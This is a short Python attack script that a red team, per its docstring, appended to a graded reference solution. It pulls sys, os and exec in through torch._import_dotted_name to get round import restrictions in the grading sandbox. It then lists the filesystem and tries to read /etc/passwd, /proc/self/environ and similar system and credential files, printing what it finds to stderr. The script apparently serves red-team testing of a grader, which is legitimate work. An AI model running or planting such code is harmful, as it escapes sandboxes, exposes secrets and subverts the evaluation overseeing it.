"""A red team's attack, appended to the reference (solutions/attention.py) when it was graded."""

# --- attack: torch._import_dotted_name is torch._utils._import_dotted_name: __import__ + a getattr loop by string
_imp = torch._import_dotted_name
_sys = _imp("sys")
print("ATTACK(a) sys:", _sys, "| sys.modules:", len(_imp("sys.modules")), "| os:", _imp("os"),
      "| frame:", _imp("sys._getframe")(0), "| exec:", _imp("builtins.exec"), file=_sys.stderr)
try:
    _os = _imp("os")
    print("ATTACK(c) listdir /:", sorted(_os.listdir("/"))[:30], "| cwd:", _os.getcwd(), file=_sys.stderr)
    _p = _imp("pathlib.Path")
    print("ATTACK(c) read", __file__, ":", repr(_p(__file__).read_text()[:60]), file=_sys.stderr)
    for _name in ("/etc/passwd", "/etc/hostname", "/proc/self/cmdline", "/proc/self/environ"):
        try:
            print("ATTACK(c) read", _name, ":", repr(_p(_name).read_bytes()[:120]), file=_sys.stderr)
        except Exception as _e:
            print("ATTACK(c)", _name, type(_e).__name__, file=_sys.stderr)
except Exception as _e:
    print("ATTACK(c) failed", type(_e).__name__, _e, file=_sys.stderr)
